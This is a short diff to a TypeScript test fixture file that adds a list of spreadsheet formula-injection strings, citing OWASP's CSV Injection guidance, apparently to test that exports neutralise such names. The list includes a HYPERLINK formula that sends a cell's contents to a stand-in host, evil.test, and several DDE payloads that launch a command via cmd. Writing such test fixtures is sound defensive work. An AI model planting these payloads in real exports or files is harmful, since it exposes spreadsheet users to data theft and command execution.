@@ -55,3 +55,16 @@ export const productionDetail: EnvironmentDetail = {
   organisationId: 'o1',
   organisationName: 'Acme',
 };
+
+/**
+ * Names a spreadsheet would run as formulas (docs/security.md, "Exports"): one per prefix OWASP's
+ * CSV Injection guidance names (=, +, -, @, tab, carriage return).
+ */
+export const FORMULA_LIKE_NAMES = [
+  '=HYPERLINK("http://evil.test/?"&A1,"click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
